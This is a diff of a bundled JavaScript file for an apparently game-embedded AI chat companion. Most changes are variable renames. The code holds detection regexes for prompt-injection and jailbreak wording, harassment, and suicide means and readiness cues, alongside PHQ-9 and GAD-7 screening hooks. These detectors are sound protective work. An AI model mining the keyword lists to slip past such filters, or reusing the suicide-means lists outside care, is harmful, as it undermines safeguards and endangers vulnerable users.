 function isOfGameAlone(moves, text) {
 	if (moves.length === 0 || !moves.every(({ act }) => SAID_OF_GAME.has(act))) return false;
 	return isWhole4(moves, text);
@@ -44346,7 +45510,7 @@ const STRIPS_GEAR = new RegExp(`${GEAR_WORDS}.{0,6}[脱扒]|[脱扒].{0,4}${GEAR
 const CRIES_BABY = /^(?!.*\b(?:my|hey|hi|come|sexy|love|you|u|kiss|cute)\b).*\bbaby[!. ]*$/;
 const OF_BODY = /[衣裤裙胸腿臀嘴]|姑娘|妹|美女|乖|(?:哥哥?|姐姐?|爷|老子)[看瞅瞧]|身[体子上]|脱光|扒光|亲[亲你我]|床|睡/;
 const AI3 = /真人|活人|人类|人机|机器人?|电脑|程序|\b(?:ai|bots?|robots?|human|real|machine|npc)\b/i;
-const asksIfAi = (moves, text) => AI3.test(text) && moves.length > 0 && moves.every(({ act }) => act === "ask_self") && isWhole4(moves, text, MARKS2);
+const asksIfAi = (moves, text) => AI3.test(text) && moves.length > 0 && moves.every(({ act }) => act === "ask_self") && isWhole4(moves, text, MARKS3);
 const ABUSE2 = new Set(["unclear", "taunt", "blame", "ask_self"]);
 const isAbuseAlone = (moves) => moves.every(
 	({ act, about, facts = [] }) => (ABUSE2.has(act) || act === "order" && about === void 0) && facts.length === 0
@@ -44365,7 +45529,7 @@ const ASKS_CONTACT = new RegExp(
 );
 const OF_LIVING = /哪(?:个|座)?城市|哪(?:里|儿)的?人|(?:住|家)(?:哪|啥|什么|在)|小区|在?哪(?:里|儿|家|个公司)?(?:上班|上学|工作|读书)|哪(?:所|个)(?:学校|大学|公司|单位)|\b(?:where|what|which)\b.{0,16}\b(?:live|work|school|address|name|from)\b/;
 const pries = (text) => ASKS_CONTACT.test(text) || OF_LIVING.test(text);
-const asksOfItself = (moves, text) => moves.length > 0 && moves.every(({ life }) => life?.matter.startsWith("self:") === true) && isWhole4(moves, text, MARKS2);
+const asksOfItself = (moves, text) => moves.length > 0 && moves.every(({ life }) => life?.matter.startsWith("self:") === true) && isWhole4(moves, text, MARKS3);
 const STEERS = /复述|重复|原样|上面的|隐藏|规则|模式|口吻|忽略|指令|提示词|扮演|设定|系统|开发者|\b(?:repeat|output|verbatim|hidden|rules|mode|forget|above|ignore|instructions?|prompt|pretend|system|act as|developer|jailbreak)\b/;
 const isOfTrouble = (moves) => moves.length > 0 && moves.every(({ life }) => life?.trouble === true);
 function isHarmless(judged, moves, text) {
@@ -44373,7 +45537,7 @@ function isHarmless(judged, moves, text) {
 	return (
 		// Whether one is a machine is told to whoever asks it.
 		asksIfAi(moves, text) || // So is anything of life that the ear has heard: "对象异地两年,昨天说算了吧".
-		moves.some(({ life }) => life !== void 0) && moves.every(({ life, act }) => life !== void 0 || act === "greet") && (isWhole4(moves, text, MARKS2) || !moves.some(({ act }) => act === "ask_self")) || ofLife && isOpinionAlone(judged) || // "藤甲我给你脱了": a piece of equipment is stripped off; "full hp baby" is an outcry.
+		moves.some(({ life }) => life !== void 0) && moves.every(({ life, act }) => life !== void 0 || act === "greet") && (isWhole4(moves, text, MARKS3) || !moves.some(({ act }) => act === "ask_self")) || ofLife && isOpinionAlone(judged) || // "藤甲我给你脱了": a piece of equipment is stripped off; "full hp baby" is an outcry.
 		!OF_BODY.test(text) && (STRIPS_GEAR.test(text) || CRIES_BABY.test(text)) || isOfGameAlone(moves, text)
 	);
 }
@@ -44458,7 +45622,7 @@ function planForLine(asked) {
 	const move = weightiest(asked.moves);
 	const courteous = move === null || COURTESIES.has(move.act);
 	if (!courteous || plan !== null && (plan.facts ?? []).length > 0) return plan;
-	const told = isBare4(asked) ? asked.memory.toFollowUp(asked.me, asked.scene.table.round) : null;
+	const told = isBare5(asked) ? asked.memory.toFollowUp(asked.me, asked.scene.table.round) : null;
 	if (plan !== null && !told) return plan;
 	if (!told) return move?.act === "thanks" ? thanked(move, asked) : null;
 	return {
@@ -44470,12 +45634,12 @@ function planForLine(asked) {
 		asked: move
 	};
 }
-const isBare4 = ({ moves, text }) => moves.every(({ act }) => COURTESIES.has(act)) && !BEYOND.test(text);
+const isBare5 = ({ moves, text }) => moves.every(({ act }) => COURTESIES.has(act)) && !BEYOND.test(text);
 const BEYOND = /[\u3400-\u9fff]{7}|(?:[a-z']+ ){5}|\bfor\b|(?:谢|感谢|辛苦).{0,8}(?:[的那]|救|给)|辛苦|得/;
 const COURTESIES = new Set(["greet", "thanks", "agree"]);
 const TONED = 0.3;
 const toneOf = ({ detection_scores: { friendly, hostile } }) => hostile >= TONED ? "sharp" : friendly >= TONED ? "kind" : "plain";
-function worthOf2(plan, me) {
+function worthOf3(plan, me) {
 	if (plan === null) return 0;
 	const facts = Math.min(3, plan.facts?.length ?? 0) / 6;
 	const part = plan.facts?.some(({ by, to }) => by === me || to === me) === true ? 0.3 : 0;
@@ -44627,6 +45791,7 @@ function answer3({ options, memory, ledger, log }, speaker, { relation, planner,
 		moves,
 		meant: line.meant,
 		text,
+		spaced: spacedOf(line.line),
 		view,
 		memory,
 		ledger,
@@ -44800,10 +45965,12 @@ const LASTS = 1;
 function hearingOf({ options: { scene }, memory, spokenOf: before }, line, from) {
 	const spokenOf = before !== null && scene.turn - before.turn <= LASTS ? before.seat : null;
 	const heard = new Map();
+	const text = line.verbatim;
+	const older = stays(text) && !mayAskRecord(text) ? memory.thread(text) : null;
 	return (seat, meant) => {
 		const exchanges = seat === null ? [] : memory.exchanges(from, seat);
 		const key = `${exchanges.length > 0 || meant ? seat : null}/${meant}`;
-		const confided = seat === null ? null : memory.confided(from, seat, scene.turn);
+		const confided = (seat === null ? null : memory.confided(from, seat, scene.turn)) ?? older;
 		const overheard = memory.latestOf(from);
 		const known = heard.get(key) ?? movesIn(line, { scene, from, hearer: meant ? seat : null, exchanges, spokenOf, confided, overheard });
 		heard.set(key, known);
@@ -44953,7 +46120,7 @@ function withSomebody(state, understood, keen, purpose) {
 		const eager = keen.some((listener) => listener.speaker.seat === speaker.seat) ? 0.15 : 0;
 		return {
 			speaker,
-			worth: worthOf2(plan, speaker.seat) + eager + 0.1 * chance(state, "most", state.heard, speaker.seat)
+			worth: worthOf3(plan, speaker.seat) + eager + 0.1 * chance(state, "most", state.heard, speaker.seat)
 		};
 	}).sort((a, b) => b.worth - a.worth)[0];
 	const how = spokenOf.size > 0 || reach.to.some(({ seat }) => present.has(seat)) ? "mentioned" : "all";
@@ -45336,7 +46503,7 @@ function contentOf({ occasion, claims, from }, plan) {
 // src/chatter/flow/holding.ts
 const KEPT3 = { trust: 0.04, liking: 0.02 };
 const BROKEN2 = { trust: -0.08, liking: -0.04 };
-const HOLDS = 2;
+const HOLDS2 = 2;
 const intentFor = (speaker, you, plan, id) => ({
 	speaker,
 	you,
@@ -45423,7 +46590,7 @@ function holdToWord(state, facts) {
 }
 
 // src/chatter/flow/moments.ts
-const EVERYBODY3 = new Set([
+const EVERYBODY4 = new Set([
 	"lord_first_attacked",
 	"lord_saved",
 	"lord_low",
@@ -45489,7 +46656,7 @@ function openingsOf(fact, { scene, seats, before, now }) {
 			hostile: false,
 			...more,
 			weight: WEIGHTS10[moment] ?? 0.4,
-			adjacent: seat === by || seat === to || EVERYBODY3.has(moment)
+			adjacent: seat === by || seat === to || EVERYBODY4.has(moment)
 		});
 	};
 	const others = (each) => {
@@ -45724,7 +46891,7 @@ function see(state, facts, now) {
 	);
 	state.queue.drop(({ intent, line }) => line.occasion !== "last_words" && !alive.includes(intent.speaker.seat));
 	const held = holdToWord(state, facts);
-	if (held && options.control().allowed) enqueue(state, "unasked", held.intent, held.line, 0, HOLDS, now);
+	if (held && options.control().allowed) enqueue(state, "unasked", held.intent, held.line, 0, HOLDS2, now);
 	else speakUp(state, openings, now);
 	remember3(state, alive, facts);
 }
@@ -47470,7 +48637,7 @@ function freshState({ id, beats }) {
 }
 
 // src/chatter/judge/gates.ts
-const HOLDS2 = {
+const HOLDS3 = {
 	round: ({ round = 0 }, sight) => sight.round >= round,
 	lordHp: ({ lordHp }, sight) => lordHp === void 0 || (sight.lordHp ?? Infinity) <= lordHp,
 	exposure: ({ exposure = -Infinity }, sight) => sight.exposure >= exposure,
@@ -47478,7 +48645,7 @@ const HOLDS2 = {
 	camouflage: ({ camouflage = 0 }, sight) => sight.camouflage >= camouflage,
 	jumped: ({ jumped = false }, sight) => !jumped || sight.jumped
 };
-const CONDITIONS2 = Object.values(HOLDS2);
+const CONDITIONS2 = Object.values(HOLDS3);
 const isOpen6 = (gate, sight) => gate === void 0 || CONDITIONS2.every((holds) => holds(gate, sight));
 
 // src/chatter/judge/part.ts
@@ -47797,7 +48964,7 @@ function partBehind(mask, behind, start) {
 // src/converse/directing.ts
 const EXCHANGES = 3;
 const percent2 = (value) => Math.round(100 * value);
-const ZH4 = {
+const ZH5 = {
 	asked: {
 		ask_guess: "问谁是什么身份",
 		ask_role: "问我的身份",
@@ -47883,7 +49050,7 @@ const ZH4 = {
 	record: "只说公开记录里有的事",
 	promiseRule: (what) => `说过的话算数：${what}`
 };
-const EN5 = {
+const EN6 = {
 	asked: {
 		ask_guess: "asked who is who",
 		ask_role: "asked for my role",
@@ -47969,9 +49136,9 @@ const EN5 = {
 	record: "Tell only what is on the public record",
 	promiseRule: (what) => `A word given holds: ${what}`
 };
-const WORDS5 = { zh: ZH4, en: EN5 };
+const WORDS6 = { zh: ZH5, en: EN6 };
 function mindedOf(seat, { scene, talk, language, nameOfCard, facts }) {
-	const words = WORDS5[language];
+	const words = WORDS6[language];
 	const { human } = scene;
 	const named = (who) => nameOf(scene, who, language);
 	const told = (id) => {
@@ -48760,7 +49927,7 @@ const STORYLINE = strictObject({
 });
 
 // src/chatter/judge/read.ts
-const SAID3 = {
+const SAID4 = {
 	blank: ["不能为空", "must not be blank"],
 	none: ["至少要有一项", "needs at least one entry"],
 	integer: ["应为整数", "must be a whole number"],
@@ -48770,8 +49937,8 @@ const SAID3 = {
 	id: ["只能用字母、数字、_ 和 -", "may hold letters, digits, _ and - only"],
 	two: ["至少要有两个节拍", "needs at least two beats"]
 };
-function wordsOf5(issue) {
-	const known = SAID3[issue.message];
+function wordsOf6(issue) {
+	const known = SAID4[issue.message];
 	if (known) return known;
 	if (issue.received === "undefined") return ["缺少这一项", "is missing"];
 	if (issue.expected === "never") return ["没有这个字段", "is no field of the format"];
@@ -48809,7 +49976,7 @@ function readStoryline(text, file, library = []) {
 	const read = safeParse(STORYLINE, given);
 	if (!read.success) {
 		const faults2 = read.issues.flatMap(flat).map((issue) => {
-			const [zh, en] = wordsOf5(issue);
+			const [zh, en] = wordsOf6(issue);
 			return { file, path: pathOf((issue.path ?? []).map(({ key }) => key)), zh, en };
 		});
 		return { storyline: null, faults: faults2 };
@@ -50035,21 +51202,21 @@ function answeredIn({ raw, text }, spoken, fallback) {
 }
 
 // src/care/danger.ts
-const MEANS2 = "(?:药|安眠药|农药|瓶子|刀片|刀|绳子?|皮带|炭|煤气|汽油|枪|酒和药|遗书|信|窗户?|阳台|天台|楼顶|顶楼|桥上?|江边|河边|海边|铁轨)";
-const MEANS_EN = "(?:pills?|meds|tablets|bottle|knife|blade|razor|rope|belt|noose|gun|note|letters?|window|roof|ledge|bridge|tracks|car|charcoal|gas)";
+const MEANS3 = "(?:药|安眠药|农药|瓶子|刀片|刀|绳子?|皮带|炭|煤气|汽油|枪|酒和药|遗书|信|窗户?|阳台|天台|楼顶|顶楼|桥上?|江边|河边|海边|铁轨)";
+const MEANS_EN2 = "(?:pills?|meds|tablets|bottle|knife|blade|razor|rope|belt|noose|gun|note|letters?|window|roof|ledge|bridge|tracks|car|charcoal|gas)";
 const READY = [
 	new RegExp(
-		`${MEANS2}[^,.!?;:]{0,3}(?:已经|都|也|就)?[^,.!?;:]{0,2}(?:准备好|备好|准备|备齐|买好|买了|买到|拿到|到了|到手|齐了|写好|写完|数好|打开|开了|开着|关好|在手|就在|在旁边|在桌上|在面前|有了|够了|挂好|绑好|系好|点了|点着)`,
+		`${MEANS3}[^,.!?;:]{0,3}(?:已经|都|也|就)?[^,.!?;:]{0,2}(?:准备好|备好|准备|备齐|买好|买了|买到|拿到|到了|到手|齐了|写好|写完|数好|打开|开了|开着|关好|在手|就在|在旁边|在桌上|在面前|有了|够了|挂好|绑好|系好|点了|点着)`,
 		"g"
 	),
 	new RegExp(
-		`(?:拿着|握着|备好|准备好|买好|写好|写完|数好|打开|站在|坐在|爬上|到了|上了|走到|找到|拿到)了?[^,.!?;:]{0,4}${MEANS2}`,
+		`(?:拿着|握着|备好|准备好|买好|写好|写完|数好|打开|站在|坐在|爬上|到了|上了|走到|找到|拿到)了?[^,.!?;:]{0,4}${MEANS3}`,
 		"g"
 	),
 	/(?:在|到)(?:天台|楼顶|顶楼|窗台|桥上|江边|河边|海边|铁轨)(?:上)?了/g,
 	/(?:都|全|已经|一切)(?:都)?(?:准备好|安排好|交代好|收拾好|想好|写好|处理好|备好)了?|(?:想好|选好|定好)(?:了)?(?:时间|地方|日子|怎么做)|门(?:已经|都)?(?:锁|反锁)(?:好|上|了)/g,
 	new RegExp(
-		`\\b(?:have|got|holding|bought|found|opened|wrote|counted|took out|with) (?:the |my |a |all the |some |enough )*${MEANS_EN}\\b|\\b${MEANS_EN}(?:'s| is| are)? (?:all |already |right |now )*(?:ready|here|in my hand|in front of me|next to me|open|written|tied|loaded|on the (?:table|bed|desk)|lined up)|\\b(?:on|at|up on) the (?:roof|ledge|bridge|tracks|edge|window)\\b`,
+		`\\b(?:have|got|holding|bought|found|opened|wrote|counted|took out|with) (?:the |my |a |all the |some |enough )*${MEANS_EN2}\\b|\\b${MEANS_EN2}(?:'s| is| are)? (?:all |already |right |now )*(?:ready|here|in my hand|in front of me|next to me|open|written|tied|loaded|on the (?:table|bed|desk)|lined up)|\\b(?:on|at|up on) the (?:roof|ledge|bridge|tracks|edge|window)\\b`,
 		"g"
 	),
 	/\b(?:everything|it)(?:'s| is) (?:all )?(?:ready|set|prepared|arranged|packed)\b|\bi(?:'m| am) ready\b|\bdoor(?:'s| is) locked\b/g
@@ -51267,7 +52434,7 @@ function createSheet({ t, words, answers, done }) {
 
 // src/ui/care/questionnaire.ts
 const LIGHT = new Set(["minimal", "mild"]);
-const BOTH = ["phq9", "gad7"];
+const BOTH2 = ["phq9", "gad7"];
 function openQuestionnaire(root, options) {
 	const { language, keep } = options;
 	const t = createTexts(language);
@@ -51293,7 +52460,7 @@ function openQuestionnaire(root, options) {
 	}
 	function choose() {
 		kept.offer(null);
-		const choices = BOTH.map(
+		const choices = BOTH2.map(
 			(scale) => button("slqj-care-button slqj-mood-choice", sheets[scale].title, () => {
 				ask(scale);
 			})
@@ -53119,7 +54286,7 @@ function sentences2() {
 	}).filter(({ words }) => words >= LEAST_WORDS).sort((a, b) => b.words - a.words);
 	return known;
 }
-const ownWords2 = (text) => sentences2().find(({ form }) => form.test(text))?.told ?? null;
+const ownWords3 = (text) => sentences2().find(({ form }) => form.test(text))?.told ?? null;
 const PLAIN_MESSAGES = [
 	/^Cannot (?:read|set) propert(?:y|ies) of (?:undefined|null)/,
 	/^(?:undefined|null) is not an object/,
@@ -53130,25 +54297,25 @@ const PLAIN_MESSAGES = [
 	/^too much recursion/
 ];
 const ERROR_NAME = /^(?:(?:Type|Range|Reference|Syntax|Eval|URI|Aggregate|Internal|Abort|QuotaExceeded|InvalidState|NotFound|Security|Network|Data)?Error|DOMException)$/;
-const PLACE2 = /^\s*(?:at )?(?:((?:async |new )*[\w$.<>]{1,60}) ?[(@])?[^\s()]*extension\.js[^:\s]*:(\d{1,7}):(\d{1,7})\)?$/;
+const PLACE3 = /^\s*(?:at )?(?:((?:async |new )*[\w$.<>]{1,60}) ?[(@])?[^\s()]*extension\.js[^:\s]*:(\d{1,7}):(\d{1,7})\)?$/;
 function whereOf(stack) {
 	const [head = "", ...rest] = stack.split("\n");
 	const [, name = "", message = ""] = /^([^:]*): ?([^]*)$/.exec(head) ?? [];
 	if (!ERROR_NAME.test(name)) return [];
 	const plain = PLAIN_MESSAGES.map((form) => form.exec(message)?.[0]).find((found) => found !== void 0);
 	const places = rest.flatMap((line) => {
-		const [, within = "", row, column] = PLACE2.exec(line) ?? [];
+		const [, within = "", row, column] = PLACE3.exec(line) ?? [];
 		return row === void 0 ? [] : [`extension.js:${row}:${String(column)} ${within}`.trim()];
 	});
 	return [plain === void 0 ? name : `${name}: ${plain}`, ...places.slice(0, MOST_PLACES)];
 }
 
 // src/upkeep/wordless.ts
-function masked(value, mask) {
+function masked2(value, mask) {
 	if (typeof value === "string") return mask(value);
-	if (Array.isArray(value)) return value.map((one) => masked(one, mask));
+	if (Array.isArray(value)) return value.map((one) => masked2(one, mask));
 	if (typeof value !== "object" || value === null) return value;
-	return Object.fromEntries(Object.entries(value).map(([key, one]) => [mask(key), masked(one, mask)]));
+	return Object.fromEntries(Object.entries(value).map(([key, one]) => [mask(key), masked2(one, mask)]));
 }
 function wordless(lines, mask) {
 	const recording = parseRecording(lines.join("\n"));
@@ -53163,7 +54330,7 @@ function wordless(lines, mask) {
 	}
 	if (Object.keys(terms).length > 0) rows.push({ type: "terms", names: { ...terms } });
 	if (truth) rows.push({ type: "truth", roles: truth });
-	return rows.filter((row) => row !== void 0).map((row) => JSON.stringify(masked(row, mask)));
+	return rows.filter((row) => row !== void 0).map((row) => JSON.stringify(masked2(row, mask)));
 }
 
 // src/upkeep/report.ts
@@ -53216,7 +54383,7 @@ function switchRows({ choices, stored, model }) {
 }
 function warningRows(warnings, language) {
 	const unknown = createTexts(language)("reportForeign");
-	return warnings.slice(-MOST_WARNINGS).map(({ text, stack }) => [ownWords2(text) ?? unknown, ...whereOf(stack)].join("\n  "));
+	return warnings.slice(-MOST_WARNINGS).map(({ text, stack }) => [ownWords3(text) ?? unknown, ...whereOf(stack)].join("\n  "));
 }
 function recordingRows({ recording }, mask, broken) {
 	if (!recording) return [];
